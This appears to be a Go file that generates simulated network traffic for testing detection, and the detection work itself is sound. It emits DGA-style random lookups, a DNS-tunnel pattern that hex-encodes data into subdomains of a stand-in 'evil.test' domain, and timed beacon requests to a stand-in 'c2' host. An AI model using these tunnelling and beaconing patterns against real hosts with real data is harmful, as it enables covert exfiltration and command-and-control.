package main

import (
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"net"
	"strconv"
	"time"
)

// searchMaster asks for names that it makes up until one answers.
func searchMaster(args []string) error {
	n, err := strconv.Atoi(arg(args, 0, "55"))
	if err != nil {
		return err
	}
	random := rand.New(rand.NewPCG(7, 7))
	for range n {
		name := make([]byte, 12)
		for i := range name {
			name[i] = "bcdfghjklmnpqrstvwxzqxzjkvw"[random.IntN(27)]
		}
		_, _ = net.LookupHost(string(name) + ".test")
	}
	return nil
}

// suffixes asks as resolvers with search lists do, and as browsers at their start.
func suffixes([]string) error {
	for i := range 12 {
		for _, end := range []string{".shop.svc.cluster.local", ".svc.cluster.local", ".example.test"} {
			_, _ = net.LookupHost(fmt.Sprint("backend-", i, end))
		}
	}
	for _, probe := range []string{"qzxkvjwqpd", "xkqjzvwbnm", "vbqxzkjwtr"} {
		_, _ = net.LookupHost(probe + ".test")
	}
	return nil
}

// tunnel sends data as names below one domain.
func tunnel(args []string) error {
	n, err := strconv.Atoi(arg(args, 0, "60"))
	if err != nil {
		return err
	}
	random := rand.New(rand.NewPCG(3, 3))
	piece := make([]byte, 24)
	for i := range n {
		for k := range piece {
			piece[k] = byte(random.Uint32())
		}
		_, _ = net.LookupHost(fmt.Sprintf("%s.%d.t.evil.test", hex.EncodeToString(piece), i))
	}
	return nil
}

// checksums asks for few names with hashes in them, and for many with words.
func checksums([]string) error {
	for i := range 6 {
		_, _ = net.LookupHost(fmt.Sprintf("%032x.cache.example.test", 0x9e3779b97f4a7c15*uint64(i+1)))
	}
	for i := range 40 {
		_, _ = net.LookupHost(fmt.Sprintf("very-long-name-of-a-service-%d.cluster.example.test", i))
	}
	return nil
}

// beacon calls one place, after each of the given pauses in milliseconds.
func beacon(args []string) error {
	say("GET", arg(args, 0, "http://c2.example.test/ping"), "")
	for _, pause := range args[1:] {
		ms, err := strconv.Atoi(pause)
		if err != nil {
			return err
		}
		time.Sleep(time.Duration(ms) * time.Millisecond)
		say("GET", args[0], "")
	}
	return nil
}
